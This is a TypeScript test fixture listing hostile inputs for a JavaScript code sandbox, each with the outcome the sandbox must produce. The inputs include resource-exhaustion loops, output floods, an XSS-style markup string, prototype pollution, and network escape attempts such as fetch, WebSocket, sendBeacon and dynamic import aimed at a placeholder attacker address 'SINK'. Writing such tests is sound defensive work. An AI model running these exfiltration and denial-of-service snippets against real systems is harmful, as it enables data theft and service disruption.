import type { End } from '#sandbox/protocol';

/** One hostile input, what it must end as, and what its output must and must not hold. `SINK` is the attacker's address. */
export interface Hostile { readonly name: string; readonly code: string; readonly why: End | readonly End[]; readonly says?: RegExp; readonly never?: RegExp }

/** Names a way out and reports what became of it. */
const attempt = (code: string): string => `try { const got = await (async () => { ${code} })(); console.log('GOT', typeof got); } catch (error) { console.log('blocked', error.name); }`;
const blocked = { why: 'done', says: /blocked/, never: /GOT/ } as const;

const time: readonly Hostile[] = [
  { name: 'an endless loop', code: 'while (true);', why: 'timeout' },
  { name: 'a loop that catches everything', code: 'for (;;) { try { throw 1 } catch {} finally { continue } }', why: 'timeout' },
  { name: 'infinite recursion', code: 'const f = () => f(); f()', why: 'error', says: /RangeError: Maximum call stack/ },
  { name: 'endless microtasks', code: 'const f = () => Promise.resolve().then(f); await f()', why: 'timeout' },
  { name: 'a promise that never settles', code: 'await new Promise(() => {})', why: 'timeout' },
  { name: 'an interval that outlives the run', code: "setInterval(() => console.log('late'), 30); console.log('on time')", why: 'done', says: /on time/, never: /late/ },
  { name: 'a regular expression that backtracks', code: "/^(a+)+$/.test('a'.repeat(40) + '!')", why: 'timeout' },
  { name: 'a spread of an endless generator', code: '[...(function* () { for (;;) yield 1 })()]', why: ['timeout', 'error'] },
  { name: 'a bigint squared for ever', code: 'let n = 3n; for (;;) n *= n', why: ['timeout', 'error'] },
  { name: 'an array that grows', code: 'const all = []; for (;;) all.push(new Array(1000).fill(Math.random()))', why: ['timeout', 'error', 'unavailable'] },
  { name: 'buffers of 256 MB', code: 'const all = []; for (;;) all.push(new Uint8Array(2 ** 28))', why: ['timeout', 'error', 'unavailable'] },
  { name: 'a string that doubles', code: "let s = 'x'; for (;;) s += s", why: 'error', says: /RangeError: Invalid string length/ },
  { name: 'a getter that never returns', code: 'console.log({ get x() { while (true); } })', why: 'timeout' },
  { name: 'toJSON is not called', code: 'console.log({ toJSON() { while (true); } })', why: 'done', says: /\[function toJSON\]/ },
  { name: 'a thrown toString is not called', code: 'throw { toString() { while (true); } }', why: 'error', says: /\[function toString\]/ },
  { name: 'a flood between two ports or two timers', code: 'const f = () => { setTimeout(f, 0); for (let i = 0; i < 1000; i++) setTimeout(() => {}, 0) }; f(); await new Promise(() => {})', why: 'timeout' },
  { name: 'Atomics cannot wait', code: attempt('return Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)'), ...blocked },
];

const output: readonly Hostile[] = [
  { name: 'ten million lines', code: 'for (let i = 0; i < 1e7; i++) console.log(i)', why: ['done', 'timeout'], says: /trunc$/ },
  { name: 'a line of 100 MB', code: "console.log('x'.repeat(1e8))", why: 'done', says: /^x{10000}…$/m },
  { name: 'more than 200 000 characters', code: "for (let i = 0; i < 100; i++) console.log('y'.repeat(9000))", why: 'done', says: /trunc$/ },
  { name: 'a cycle', code: 'const a = {}; a.a = a; console.log(a)', why: 'done', says: /^\[unprintable\]$/m },
  { name: 'a getter and a proxy that throw', code: 'console.log({ get x() { throw 1 } }, new Proxy({}, { ownKeys() { throw 1 } }))', why: 'done', says: /^\[unprintable\] \[unprintable\]$/m },
  { name: 'values that are hard to print', code: "console.log(Symbol('s'), -0, NaN, Object.create(null), 10n, undefined)", why: 'done', says: /^Symbol\(s\) -0 NaN \{\} 10n undefined$/m },
  { name: 'null is thrown', code: 'throw null', why: 'error', says: /^null$/m },
  { name: 'markup stays text', code: "console.log('<img src=x onerror=alert(1)></script>')", why: 'done', says: /<img src=x onerror=alert\(1\)><\/script>/ },
  { name: 'bidirectional marks, NUL and escapes are written out', code: "console.log('a\\u202eb\\u0000c\\u001b[31m')", why: 'done', says: /^a\\u202eb\\u0000c\\u001b\[31m$/m },
  { name: 'an object 100 000 deep', code: 'let o = {}; for (let i = 0; i < 1e5; i++) o = { o }; console.log(o)', why: 'done', says: /…/ },
  { name: 'an object 10 000 000 deep', code: 'let o = {}; for (let i = 0; i < 1e7; i++) o = { o }; console.log(o)', why: ['done', 'timeout', 'error'] },
];

const network: readonly Hostile[] = [
  ...['fetch("SINK/fetch")', 'new XMLHttpRequest().open("GET", "SINK/xhr")', 'new WebSocket("SINK/ws".replace("http", "ws"))', 'new EventSource("SINK/events")', 'importScripts("SINK/scripts")',
    'const u = "SINK/computed.js"; return import(u)', 'const u = "data:text/javascript,export default 1"; return import(u)',
    'new Worker("data:text/javascript,fetch(`SINK/worker`)")', 'new WebTransport("SINK/transport".replace("http", "https"))', 'new RTCPeerConnection()', 'navigator.sendBeacon("SINK/beacon")',
    'indexedDB.open("x")', 'caches.open("x")', 'navigator.storage.getDirectory()', 'navigator.locks.request("x", () => {})', 'new BroadcastChannel("leak").postMessage("leaked")',
    'new FontFace("x", "url(SINK/font)").load()', 'createImageBitmap(new Blob([]))', 'parent.postMessage("leaked", "*")', 'top.location = "SINK/top"', 'document.cookie', 'localStorage.x = 1', 'location.href',
    'postMessage({ v: 1, t: "done" })', 'self.close()', 'eval("1")', 'new Function("return 1")()', '(async () => {}).constructor("return 1")()', 'WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))', 'new MessageChannel()', 'URL.createObjectURL(new Blob(["1"]))',
  ].map((code) => ({ name: code, code: attempt(code.startsWith('const') ? code : `return ${code}`), ...blocked })),
  { name: 'a walk over every prototype for a way out', code: `
    const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'postMessage', 'Worker', 'navigator', 'indexedDB', 'caches', 'constructor', 'addEventListener'];
    for (let o = globalThis; o && o !== Object.prototype; o = Object.getPrototypeOf(o)) for (const name of names) { const d = Object.getOwnPropertyDescriptor(o, name); if (d && (d.value ?? d.get)) console.log('FOUND', name); }
    console.log('walked')`, why: 'done', says: /walked/, never: /FOUND/ },
];

const integrity: readonly Hostile[] = [
  { name: 'a polluted world', code: "Object.prototype.t = 'end'; Array.prototype.map = Array.prototype.push = String.prototype.slice = () => 'pwn'; JSON.stringify = () => 'pwn'; Promise.prototype.then = () => {}; console.log([1, 'a'], { a: 1 })", why: ['done', 'timeout'], says: /^\[1, "a"\] \{ a: 1 \}$/m, never: /pwn/ },
  { name: 'setters on Object.prototype', code: "for (const name of ['s', 't', 'v', 'id', 'level']) Object.defineProperty(Object.prototype, name, { set() {}, get() { return 'pwn' } }); console.log('intact')", why: 'done', says: /^intact$/m },
  { name: 'setters on Array.prototype', code: "Object.defineProperty(Array.prototype, '0', { set() {} }); console.log('intact', [])", why: 'done', says: /^intact \[\]$/m },
  { name: 'console is replaced', code: 'const { log } = console; console = null; log(1)', why: 'done', says: /^1$/m },
  { name: 'the names of the prelude are not in scope', code: "console.log(typeof say, typeof port, typeof fail, typeof __send, typeof userUrl)", why: 'done', says: /^undefined undefined undefined undefined undefined$/m },
  { name: 'a forged stack', code: "Error.prepareStackTrace = () => 'pwn'; null.x", why: 'error', says: /TypeError/ },
];

const code: readonly Hostile[] = [
  { name: 'an unknown package', code: "import x from 'left-pad'", why: 'error', says: /a cell can import from 'lossary' only, got "left-pad" @1:15/ },
  { name: 'a file of the site', code: "\nimport '../secret.js'", why: 'error', says: /got "\.\.\/secret\.js" @2:8/ },
  { name: 'an address', code: "import 'SINK/static.js'", why: 'error', says: /only, got "http/ },
  { name: 'an address, imported later', code: "await import('SINK/later.js')", why: 'error', says: /only, got "http/ },
  { name: 'more than 64 KB of code', code: `//${'x'.repeat(65_536)}`, why: 'refused' },
  { name: 'a syntax error has its line', code: 'const a = 1;\n\nconst b;', why: 'error', says: /SyntaxError: Missing initializer.* @3:7/ },
  { name: 'TypeScript that was not stripped', code: 'const a = 1;\nenum Color { Red }', why: 'error', says: /SyntaxError.* @2:/ },
  { name: 'a decorator', code: '@x class A {}', why: 'error', says: /SyntaxError.* @1:1/ },
  { name: 'a name that the library does not have', code: "\nimport { hubr } from 'lossary'", why: 'error', says: /'lossary' does not provide an export named 'hubr' @2:/ },
  { name: 'a runtime error has its line', code: "import { huber } from 'lossary'\n\nhuber([], [])", why: 'error', says: /RangeError: huber: prediction must have at least 1 element, got 0 @3:1/ },
  { name: 'a rejection that nobody handles', code: "console.log('before')\nPromise.reject(new Error('nobody'))", why: 'error', says: /Error: nobody @2:/ },
];

export const hostile: readonly Hostile[] = [...time, ...output, ...network, ...integrity, ...code];
